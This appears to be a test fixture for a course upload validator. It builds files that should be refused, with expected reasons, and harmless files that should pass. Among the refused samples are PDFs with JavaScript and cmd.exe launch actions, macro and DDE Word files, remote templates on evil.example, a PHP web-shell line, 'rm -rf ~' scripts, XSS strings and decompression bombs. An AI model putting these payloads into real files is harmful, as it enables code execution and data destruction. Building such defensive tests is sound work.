@@ -1,0 +1,469 @@
+"""Files that nobody should open, each with the reason it is refused for, and files as students really hand them in."""
+
+from __future__ import annotations
+
+import io
+import json
+import struct
+import wave
+import zipfile
+import zlib
+from collections.abc import Callable
+from typing import Any
+
+from pypdf import PdfReader, PdfWriter
+from pypdf.annotations import Link
+from pypdf.generic import (
+    ArrayObject,
+    DictionaryObject,
+    Fit,
+    NameObject,
+    NumberObject,
+    StreamObject,
+    TextStringObject,
+    create_string_object,
+)
+
+from tests.assignments import samples
+
+Name = NameObject
+Entry = tuple[str, bytes, str]
+
+WINDOWS_PROGRAM = b"MZ" + b"\0" * 58 + struct.pack("<I", 128) + b"\0" * 64 + b"PE\0\0" + b"\0" * 64
+ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
+SCRIPTED = "<script>alert(document.cookie)</script>"
+MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
+LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 60
+URL = b"[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n"
+DESKTOP = b"# made by hand\n[Desktop Entry]\nType=Application\nExec=rm -rf ~\n"
+WEBLOC = (
+    b'<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x"><plist version="1.0"><dict>'
+    b"<key>URL</key><string>file:///x</string></dict></plist>"
+)
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
+
+
+def dictionary(**entries: Any) -> DictionaryObject:
+    return DictionaryObject({Name(f"/{key}"): value for key, value in entries.items()})
+
+
+def action(kind: str = "JavaScript", **more: Any) -> DictionaryObject:
+    script = {"JS": TextStringObject("app.alert(1)")} if kind == "JavaScript" else {}
+    return dictionary(S=Name(f"/{kind}"), **script, **more)
+
+
+LAUNCH = dictionary(S=Name("/Launch"), F=TextStringObject("cmd.exe"))
+
+
+def pdf_with(change: Callable[[PdfWriter], None]) -> bytes:
+    """A sound one-page PDF, changed."""
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(samples.pdf())))
+    change(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def bookmark(w: PdfWriter) -> None:
+    item = w.add_outline_item(title="Chapter", page_number=0)
+    entry = item.get_object()
+    entry.pop("/Dest", None)
+    entry[Name("/A")] = action()
+
+
+def chained_bookmark(w: PdfWriter) -> None:
+    entry = w.add_outline_item(title="Chapter", page_number=0).get_object()
+    going = dictionary(S=Name("/GoTo"), D=create_string_object("x"))
+    going[Name("/Next")] = ArrayObject([w._add_object(LAUNCH)])
+    entry[Name("/A")] = going
+
+
+def field(w: PdfWriter) -> None:
+    inner = dictionary(T=TextStringObject("sum"), AA=dictionary(C=action()))
+    outer = dictionary(T=TextStringObject("form"), Kids=ArrayObject([w._add_object(inner)]))
+    w._root_object[Name("/AcroForm")] = dictionary(Fields=ArrayObject([w._add_object(outer)]))
+
+
+def xfa(w: PdfWriter) -> None:
+    stream = StreamObject()
+    stream.set_data(b"<xdp:xdp><script>xfa.host.messageBox(1)</script></xdp:xdp>")
+    w._root_object[Name("/AcroForm")] = dictionary(Fields=ArrayObject(), XFA=w._add_object(stream))
+
+
+def annotation(w: PdfWriter) -> None:
+    note = dictionary(Type=Name("/Annot"), Subtype=Name("/Link"), A=LAUNCH)
+    w.pages[0][Name("/Annots")] = ArrayObject([w._add_object(note)])
+
+
+def pressed_annotation(w: PdfWriter) -> None:
+    note = dictionary(
+        Type=Name("/Annot"), Subtype=Name("/Widget"), AA=dictionary(U=w._add_object(action("URI")))
+    )
+    w.pages[0][Name("/Annots")] = ArrayObject([note])
+
+
+def attached_note(w: PdfWriter) -> None:
+    note = dictionary(Type=Name("/Annot"), Subtype=Name("/FileAttachment"))
+    w.pages[0][Name("/Annots")] = ArrayObject([note])
+
+
+def script_tree(w: PdfWriter) -> None:
+    leaf = dictionary(Names=ArrayObject([TextStringObject("a"), w._add_object(action())]))
+    tree = dictionary(Kids=ArrayObject([w._add_object(leaf)]))
+    w._root_object[Name("/Names")] = dictionary(JavaScript=w._add_object(tree))
+
+
+def opens(kind: str) -> Callable[[PdfWriter], None]:
+    def change(w: PdfWriter) -> None:
+        does = dictionary(S=Name(f"/{kind}"), URI=TextStringObject("https://evil.example"))
+        w._root_object[Name("/OpenAction")] = w._add_object(does)
+
+    return change
+
+
+def catalog_acts(w: PdfWriter) -> None:
+    w._root_object[Name("/AA")] = dictionary(WC=dictionary(S=Name("/GoToR")))
+
+
+def script_address(w: PdfWriter) -> None:
+    does = dictionary(S=Name("/URI"), URI=TextStringObject(" JavaScript:alert(1)"))
+    w.pages[0][Name("/Annots")] = ArrayObject([dictionary(Subtype=Name("/Link"), A=does)])
+
+
+def rendition(w: PdfWriter) -> None:
+    w.pages[0][Name("/Annots")] = ArrayObject([dictionary(A=action("Rendition"))])
+
+
+def in_object_stream(payload: bytes, *, listed: bool = True) -> bytes:
+    """A PDF whose acting object stands in a compressed stream of objects; `listed`: a table names that."""
+    packed = zlib.compress(b"9 0 " + payload)
+    stream = (
+        b"8 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n"
+        % (len(packed), packed)
+    )
+    whole = samples.pdf()
+    at = whole.rindex(b"\nxref\n") + 1
+    if not listed:
+        return (
+            whole[:at]
+            + stream
+            + whole[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(stream)))
+        )
+    return _with_xref_stream(whole, at, stream)
+
+
+def _with_xref_stream(whole: bytes, at: int, stream: bytes) -> bytes:
+    """Add an update whose table, a stream, names the object in the stream of objects."""
+    entries = struct.pack(">BIB", 1, len(whole) + 1, 0) + struct.pack(">BIB", 2, 8, 0)
+    here = len(whole) + 1 + len(stream)
+    root = PdfReader(io.BytesIO(whole)).trailer.raw_get("/Root").idnum
+    table = (
+        b"10 0 obj\n<</Type/XRef/Size 11/W[1 4 1]/Index[8 2]/Root %d 0 R/Prev %d/Length %d>>"
+        b"stream\n%s\nendstream endobj\n" % (root, at, len(entries), entries)
+    )
+    return whole + b"\n" + stream + table + b"startxref\n%d\n%%%%EOF\n" % here
+
+
+def encrypted(change: Callable[[PdfWriter], None]) -> bytes:
+    """A PDF that opens without a password, and is encrypted all the same."""
+
+    def work(w: PdfWriter) -> None:
+        change(w)
+        w.encrypt("", "owner", algorithm="RC4-128")
+
+    return pdf_with(work)
+
+
+def escaped_name() -> bytes:
+    """The name of an action with its letters written as numbers."""
+    return samples.pdf(action="/JavaScript").replace(b"/S /JavaScript", b"/S /J#61va#53cript")
+
+
+def earlier_revision() -> bytes:
+    """An acting object that no table names."""
+    whole = samples.pdf()
+    at = whole.rindex(b"\nxref\n") + 1
+    hidden = b"77 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"
+    return (
+        whole[:at]
+        + hidden
+        + whole[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(hidden)))
+    )
+
+
+def docx(parts: dict[str, str | bytes] | None = None, **relationships: str) -> bytes:
+    """A Word document as Word writes it. `relationships`: XML of further relationships, by any name."""
+    types = (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
+        'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
+    )
+    body = (
+        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
+        "A review of rain radar.</w:t></w:r></w:p></w:body></w:document>"
+    )
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    inner = "".join(text.replace("REL", office) for text in relationships.values())
+    whole: dict[str, str | bytes] = {
+        "[Content_Types].xml": types,
+        "word/document.xml": body,
+        "word/_rels/document.xml.rels": f'<Relationships xmlns="r">{inner}</Relationships>',
+        **(parts or {}),
+    }
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, text in whole.items():
+            archive.writestr(name, text)
+    return out.getvalue()
+
+
+def field_text(*pieces: str) -> dict[str, str | bytes]:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return {
+        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        f"<w:body><w:p>{runs}</w:p></w:body></w:document>"
+    }
+
+
+TEMPLATE = '<Relationship Id="r1" Type="REL/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/>'
+LINKED_OBJECT = (
+    '<Relationship Id="r2" Type="REL/oleObject" Target="file://evil/x" TargetMode="External"/>'
+)
+LINKED_PICTURE = '<Relationship Id="r3" Type="REL/image" Target="https://evil.example/a.png" TargetMode="External"/>'
+UNC = (
+    '<Relationship Id="r4" Type="REL/hyperlink" Target="file://evil/share" TargetMode="External"/>'
+)
+LINK = '<Relationship Id="r5" Type="REL/hyperlink" Target="https://arxiv.org/abs/1" TargetMode="External"/>'
+CHUNK = '<Relationship Id="r6" Type="REL/aFChunk" Target="chunk.xml"/>'
+LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;">]>'
+    '<Relationships xmlns="r"><Relationship Type="&b;" Target="x"/></Relationships>'
+)
+
+
+def png(extra: bytes = b"") -> bytes:
+    return samples.PNG + extra
+
+
+def zip_bytes() -> bytes:
+    return samples.archive()
+
+
+def fills(part: bytes) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/document.xml", part)
+    return out.getvalue()
+
+
+PROGRAM = "it contains a program"
+BY_ITSELF = "it does something by itself"
+EMBEDDED = "another file is embedded in it"
+TWO = "it's two files in one"
+WEB = "it's really a web page|it's a web page"
+SHORTCUT = "it's a shortcut|it's really a shortcut"
+FETCHES = "it fetches something from elsewhere"
+
+DANGEROUS: dict[str, Entry] = {
+    "a Windows program": ("setup.exe", WINDOWS_PROGRAM, "it's a program"),
+    "a Windows program called a PDF": ("review.pdf", WINDOWS_PROGRAM, "it's really a program"),
+    "a Linux program called a notebook": ("lab.ipynb", ELF, "it's really a program"),
+    "a shell script": ("run.sh", b"#!/bin/sh\nrm -rf ~\n", "it's a program"),
+    "a Python script": ("lab.py", b"import os\nprint(1)\n", r"ends in \.py makes it a program"),
+    "JavaScript": ("a.js", b"new ActiveXObject('WScript.Shell')", r"ends in \.js makes it a program"),
+    "a text with a screensaver's name": ("a.scr", b"hello", r"ends in \.scr makes it a program"),
+    "a batch file called a text": ("a.txt", b"@ECHO OFF\r\ndel *\r\n", "it's really a script"),
+    "PHP called a text": ("a.txt", b"<?php system($_GET[0]);", "it's really a script"),
+    "a registry file called a text": ("a.txt", "Windows Registry Editor Version 5.00\r\n".encode("utf-16"), "a script"),
+    "a Windows shortcut": ("review.lnk", LNK, SHORTCUT),
+    "a Windows shortcut called a PDF": ("review.pdf", LNK, SHORTCUT),
+    "a web shortcut": ("paper.url", URL, SHORTCUT),
+    "a web shortcut called a text": ("paper.txt", b"\xef\xbb\xbf; x\r\n" + URL, SHORTCUT),
+    "a desktop entry": ("paper.desktop", DESKTOP, SHORTCUT),
+    "a desktop entry called a text": ("paper.txt", DESKTOP, SHORTCUT),
+    "a webloc": ("paper.webloc", WEBLOC, SHORTCUT),
+    "a webloc in binary": ("paper.webloc", b"bplist00" + b"\0" * 40, SHORTCUT),
+    "a link's name on a text": ("paper.lnk", b"hello", SHORTCUT),
+    "a web page": ("review.html", samples.HTML, WEB),
+    "a web page called a text": ("review.txt", SCRIPTED.encode(), WEB),
+    "a web page called a PDF": ("review.pdf", samples.HTML, WEB),
+    "a web page called a picture": ("a.png", b"\n\n \t<HTML><body onload=x>", WEB),
+    "a web page behind a mark": ("a.txt", b"\xef\xbb\xbf\r\n" + samples.HTML, WEB),
+    "a web page in UTF-16": ("a.txt", SCRIPTED.encode("utf-16"), WEB),
+    "a web page in UTF-16 without its mark": ("a.txt", SCRIPTED.encode("utf-16-le"), WEB),
+    "a web page behind comments": ("a.txt", b"<!-- a -->\n<!-- b\n -->\n<iframe src=x>", WEB),
+    "a web page behind much space": ("a.md", b" \n" * 20_000 + samples.HTML, WEB),
+    "a web page that begins with a tag": ("a.txt", b"<img src=x onerror=alert(1)>", WEB),
+    "a web page with a plain name": ("notes", samples.HTML, WEB),
+    "an SVG": ("plot.svg", SVG, WEB),
+    "an SVG called a picture": ("plot.png", b'<?xml version="1.0"?>\n' + SVG, WEB),
+    "an SVG called a text": ("plot.txt", b"\xef\xbb\xbf<!-- x -->" + SVG, WEB),
+    "a PDF's mark before a program": ("a.pdf", b"%PDF-1.7\n" + WINDOWS_PROGRAM + b"\n%%EOF", TWO + "|can't be read"),
+    "a PDF with a program in it": ("a.pdf", samples.pdf()[:-6] + WINDOWS_PROGRAM + b"\n%%EOF\n", TWO),
+    "a PDF with a Linux program behind it": ("a.pdf", samples.pdf() + ELF + b"%%EOF", TWO),
+    "a PDF with an archive behind it": ("a.pdf", samples.pdf() + zip_bytes() + b"\n%%EOF"[:0], TWO + "|cut off"),
+    "a program with a PDF behind it": ("a.pdf", b"\x89junk\0" + samples.pdf(), TWO),
+    "a web page with a PDF behind it": ("a.pdf", b"<script>x</script>\x80" + samples.pdf(), TWO),
+    "a PDF's mark before a web page": ("a.pdf", b"%PDF-1.4\n<script>alert(1)</script>\n" + samples.pdf()[9:], TWO),
+    "a picture with an archive behind it": ("a.png", png(zip_bytes()), TWO),
+    "a picture with a program behind it": ("a.png", png(WINDOWS_PROGRAM), TWO),
+    "a picture with a web page in it": ("a.png", png(SCRIPTED.encode()), TWO),
+    "a picture with a PDF in it": ("a.png", png(samples.pdf()), TWO),
+    "a PDF whose bookmark runs a script": ("a.pdf", pdf_with(bookmark), PROGRAM),
+    "a PDF whose bookmark launches at last": ("a.pdf", pdf_with(chained_bookmark), r"\(a launch action\)"),
+    "a PDF whose field runs a script": ("a.pdf", pdf_with(field), PROGRAM),
+    "a PDF with an XFA form": ("a.pdf", pdf_with(xfa), r"\(an XFA form\)"),
+    "a PDF whose link launches": ("a.pdf", pdf_with(annotation), r"\(a launch action\)"),
+    "a PDF with a script in its names": ("a.pdf", pdf_with(script_tree), r"\(JavaScript\)"),
+    "a PDF that opens an address": ("a.pdf", pdf_with(opens("URI")), BY_ITSELF),
+    "a PDF that opens a launch": ("a.pdf", pdf_with(opens("Launch")), PROGRAM),
+    "a PDF that acts when closed": ("a.pdf", pdf_with(catalog_acts), BY_ITSELF),
+    "a PDF that acts when pressed": ("a.pdf", pdf_with(pressed_annotation), BY_ITSELF),
+    "a PDF with a script as an address": ("a.pdf", pdf_with(script_address), PROGRAM),
+    "a PDF with a rendition": ("a.pdf", pdf_with(rendition), PROGRAM),
+    "a PDF with an attachment": ("a.pdf", pdf_with(lambda w: w.add_attachment("x.exe", b"MZ") and None), EMBEDDED),
+    "a PDF with an attachment on a page": ("a.pdf", pdf_with(attached_note), EMBEDDED),
+    "a PDF with a script in a stream of objects": ("a.pdf", in_object_stream(b"<</S/JavaScript/JS(x)>>"), PROGRAM),
+    "a PDF with a script where no table looks": (
+        "a.pdf", in_object_stream(b"<</S/JavaScript/JS(x)>>", listed=False), PROGRAM,
+    ),
+    "a PDF with a launch in an earlier revision": ("a.pdf", earlier_revision(), PROGRAM),
+    "a PDF with a script's name in numbers": ("a.pdf", escaped_name(), PROGRAM),
+    "a PDF with a script behind encryption": ("a.pdf", encrypted(bookmark), PROGRAM),
+    "a locked PDF": ("a.pdf", samples.pdf(password="secret"), "locked with a password"),
+    "a Word document with macros": ("a.docx", samples.docx(macros=True), "it contains macros"),
+    "a Word document with macros aside": ("a.docx", docx({"word/other/VbaProject.BIN": b"x"}), "it contains macros"),
+    "a Word document that says it has macros": (
+        "a.docx",
+        docx({"[Content_Types].xml": f"<Types><Default ContentType='{MACROS}'/></Types>"}),
+        "it contains macros",
+    ),
+    "a Word document with a remote template": ("a.docx", docx(a=TEMPLATE), FETCHES),
+    "a Word document with a linked object": ("a.docx", docx(a=LINKED_OBJECT), EMBEDDED),
+    "a Word document with a linked picture": ("a.docx", docx(a=LINKED_PICTURE), FETCHES),
+    "a Word document that leads to a share": ("a.docx", docx(a=UNC), FETCHES),
+    "a Word document with an object": ("a.docx", docx({"word/embeddings/oleObject1.bin": OLE}), EMBEDDED),
+    "a Word document with a control": ("a.docx", docx({"word/activeX/activeX1.xml": "<x/>"}), EMBEDDED),
+    "a Word document with a web page": ("a.docx", docx({"word/chunk.html": "<html/>"}), EMBEDDED),
+    "a Word document with a chunk": ("a.docx", docx({"word/chunk.xml": "<x/>"}, a=CHUNK), EMBEDDED),
+    "a Word document with a DDE field": ("a.docx", docx(field_text("DD", "EAUTO c:\\\\cmd.exe")), PROGRAM),
+    "a Word document that includes": ("a.docx", docx(field_text('INCLUDEPICTURE "https://evil.example/x"')), FETCHES),
+    "a Word document full of laughs": ("a.docx", docx({"word/_rels/document.xml.rels": LAUGHS}), "can't be read"),
+    "a Word document that unpacks to 100 MB": ("a.docx", fills(b"\0" * 100_000_000), "unpacks to far more"),
+    "a Word document that unpacks to 20 MB": ("a.docx", fills(b" " * 20_000_000), "unpacks to far more"),
+    "an old Word document": ("a.doc", OLE, "it's an old or locked Office file"),
+    "an old Word document called a new one": ("a.docx", OLE, "it's really an old or locked Office file"),
+    "a Word document's name for macros": ("a.docm", docx(), "promises an Office file with programs"),
+    "rich text with an object": ("a.rtf", rb"{\rtf1{\object\objdata 0105}}", "it's rich text"),
+    "rich text called a document": ("a.docx", b"{\\rtf1 hello}", "it's really rich text"),
+    "rich text called a text": ("a.txt", b"\n{ \\rtxa{\\object}}", "it's really rich text"),
+    "an archive": ("a.zip", zip_bytes(), "I don't unpack those"),
+    "a RAR archive": ("a.rar", b"Rar!\x1a\x07\x00" + b"\0" * 50, "I don't unpack those"),
+    "a disk image": ("a.iso", b"\0" * 40_000, "can't tell|makes it a program"),
+    "an ending turned round": ("a\u202efdp.exe", b"hello", r"ends in \.exe makes it a program"),
+    "an unknown ending": ("a.xyz", b"hello", r"don't take files whose names end in \.xyz"),
+}  # fmt: skip
+
+
+def linked(w: PdfWriter) -> None:
+    """As LaTeX with hyperref writes it: links out, links in, bookmarks, and where to begin."""
+    w.add_uri(0, "https://arxiv.org/abs/1706.03762", [40, 40, 200, 60])
+    w.add_annotation(
+        0, Link(rect=(40, 80, 200, 90), target_page_index=0, fit=Fit.fit_horizontally(0))
+    )
+    w.add_outline_item(title="Introduction", page_number=0)
+    w._root_object[Name("/OpenAction")] = ArrayObject([w.pages[0].indirect_reference, Name("/Fit")])
+    w.add_metadata({"/Title": "On /JavaScript and /Launch"})
+
+
+def form(w: PdfWriter) -> None:
+    box = dictionary(T=TextStringObject("name"), FT=Name("/Tx"), Subtype=Name("/Widget"))
+    w._root_object[Name("/AcroForm")] = dictionary(Fields=ArrayObject([w._add_object(box)]))
+
+
+def named_like_actions(w: PdfWriter) -> None:
+    """Resources may have any name."""
+    fonts = w.pages[0]["/Resources"]["/Font"]  # type: ignore[index]
+    fonts[Name("/AA")] = fonts["/F1"]
+    fonts[Name("/JS")] = fonts["/F1"]
+
+
+def tagged(w: PdfWriter) -> None:
+    item = dictionary(Type=Name("/StructElem"), S=Name("/Span"), K=NumberObject(0))
+    w._root_object[Name("/StructTreeRoot")] = dictionary(K=w._add_object(item))
+
+
+def compressed() -> bytes:
+    def work(w: PdfWriter) -> None:
+        for page in w.pages:
+            page.compress_content_streams()
+
+    return pdf_with(work)
+
+
+def wav() -> bytes:
+    out = io.BytesIO()
+    with wave.open(out, "wb") as file:
+        file.setparams((1, 2, 8000, 0, "NONE", ""))
+        file.writeframes(b"\0\1" * 8000)
+    return out.getvalue()
+
+
+def rich_notebook() -> bytes:
+    """A run notebook whose outputs hold a table in HTML and a picture."""
+    book: dict[str, Any] = json.loads(samples.notebook())
+    book["cells"][0]["source"] = ["import os\n", "HTML('<script>alert(1)</script>')"]
+    book["cells"][0]["outputs"] = [
+        {"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<table><tr><td>1</td></tr></table>"]}}
+    ]  # fmt: skip
+    return json.dumps(book).encode()
+
+
+CODE_IN_PROSE = (
+    "A web page begins with <!DOCTYPE html>, and a script is written <script>alert(1)</script>.\n"
+    "A PDF begins with %PDF-1.7, and a shell script with\n#!/bin/sh\nrm -rf ~\n[Desktop Entry]\n{\\rtf1}\n"
+)
+
+HARMLESS: dict[str, tuple[str, bytes]] = {
+    "a PDF": ("review.pdf", samples.pdf()),
+    "a PDF of three pages": ("review.pdf", samples.pdf(pages=3)),
+    "a PDF with links and bookmarks": ("review.pdf", pdf_with(linked)),
+    "a PDF with a form": ("review.PDF", pdf_with(form)),
+    "a PDF with odd names": ("review.pdf", pdf_with(named_like_actions)),
+    "a PDF with tags": ("review.pdf", pdf_with(tagged)),
+    "a compressed PDF": ("review.pdf", compressed()),
+    "a PDF that quotes code": ("review.pdf", samples.pdf(words="We write <script> and /JavaScript and 3 0 obj. " * 9)),
+    "a PDF in a stream of objects": ("review.pdf", in_object_stream(b"<</S/GoTo/D[0 /Fit]>>")),
+    "an encrypted PDF without a password": ("review.pdf", encrypted(linked)),
+    "a scan": ("review.pdf", samples.pdf(words="")),
+    "a PDF behind an empty line": ("review.pdf", b"\n" + samples.pdf()),
+    "a Word document": ("review.docx", docx()),
+    "a Word document with a link": ("review.docx", docx(a=LINK)),
+    "a Word document with a picture": ("review.docx", docx({"word/media/image1.png": samples.PNG})),
+    "a Word document with fields": ("review.docx", docx(field_text("PAGE ", ' TOC \\o "1-3" ', "DATE"))),
+    "a long Word document": (
+        "review.docx",
+        docx({"word/footnotes.xml": "<x>" + "".join(f"{n} words of text " for n in range(200_000)) + "</x>"}),
+    ),
+    "a picture": ("plot.png", samples.PNG),
+    "a photo": ("plot.JPG", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + b"\0" * 200 + b"\xff\xd9"),
+    "a GIF": ("pong.gif", b"GIF89a\1\0\1\0\x80\0\0" + b"\0" * 40 + b";"),
+    "a recording": ("song.wav", wav()),
+    "a song": ("song.mp3", samples.MP3),
+    "a song in an MP4": ("song.m4a", b"\0\0\0\x18ftypM4A \0\0\x02\0isomiso2" + b"\0" * 64),
+    "a video": ("pong.mp4", samples.MP4),
+    "a notebook": ("lab.ipynb", samples.notebook()),
+    "a notebook with outputs": ("lab.ipynb", rich_notebook()),
+    "a notebook behind a mark": ("lab.ipynb", b"\xef\xbb\xbf" + samples.notebook()),
+    "a text with emoji": ("notes.txt", "Ça marche 👩🏽‍🔬, und zwar über Züge: 日本語, עברית.".encode()),
+    "a text that quotes code": ("notes.md", CODE_IN_PROSE.encode()),
+    "a text with less-than signs": ("notes.txt", b"<3 this course; 3 < 5 > 2 and <your name here>"),
+    "a text that begins with MZ": ("notes.txt", b"MZ is how Windows programs begin."),
+    "a text from Notepad": ("notes.txt", "Grüße\r\n".encode("utf-16")),
+    "a text without an ending": ("notes", b"Just a text."),
+    "a list in brackets": ("notes.txt", b"[1] Vaswani et al.\n[2] Amini et al.\n"),
+    "numbers": ("losses.csv", b"step,loss\n1,-0.5\n"),
+    "a melody in ABC": ("song.abc", b"X:1\nT:Tune\nK:G\nGABc dedB|"),
+    "settings": ("config.json", b'{"learning_rate": 0.001}'),
+}  # fmt: skip
